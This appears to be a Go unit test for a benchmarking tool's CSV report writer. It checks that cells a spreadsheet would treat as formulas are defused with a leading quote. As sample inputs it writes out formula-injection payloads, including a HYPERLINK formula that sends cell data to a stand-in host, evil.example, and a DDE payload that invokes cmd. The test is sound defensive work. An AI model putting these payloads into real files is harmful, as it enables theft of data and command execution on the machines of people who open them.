package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/benchq/benchq/internal/job"
)

// TestCSVDefusesFormulas: a text cell a spreadsheet would run as a formula
// (a target's name, a Server header, a path, a hint) starts with a single
// quote; a numeric cell stays a number, a negative one too.
func TestCSVDefusesFormulas(t *testing.T) {
	j := fixtureJob()
	j.Spec.Targets[0].Name = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	j.Spec.Baseline = j.Spec.Targets[0].Name
	runs := fixtureRuns(j)
	r := runs[0].Result
	r.ServerSoftware = "@SUM(1+1)*cmd|' /C calc'!A0"
	r.ServerHostname = "+1+1"
	r.DocumentPath = "-2+3"
	r.Method = "\tGET"
	r.Aborted = "\r=1+1"
	r.Hints = []string{"-1+1 looks like a formula"}
	r.TLSProtocol = "TLS 1.3" // harmless text stays as it is
	r.TimePerRequestMs = -18.6
	r.RequestsPerSecond = -0.5
	r.DocumentLength = -1
	var buf bytes.Buffer
	if err := Write(&buf, FormatCSV, j, runs, job.Analysis{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	head, row := rows[0], rows[1]
	cell := func(name string) string {
		i := slices.Index(head, name)
		if i < 0 {
			t.Fatalf("no column %s", name)
		}
		return row[i]
	}
	for col, want := range map[string]string{
		"target":              `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
		"server_software":     "'@SUM(1+1)*cmd|' /C calc'!A0",
		"server_hostname":     "'+1+1",
		"document_path":       "'-2+3",
		"method":              "'\tGET",
		"aborted":             "'\r=1+1",
		"hints":               "'-1+1 looks like a formula",
		"tls_protocol":        "TLS 1.3",
		"time_per_request_ms": "-18.6",
		"requests_per_second": "-0.5",
		"document_length":     "-1",
	} {
		if got := cell(col); got != want {
			t.Errorf("%s = %q, want %q", col, got, want)
		}
	}
	for i, c := range row {
		if c != "" && slices.Contains([]byte("=+@\t\r"), c[0]) {
			t.Errorf("column %s = %q starts a formula", head[i], c)
		}
	}
}
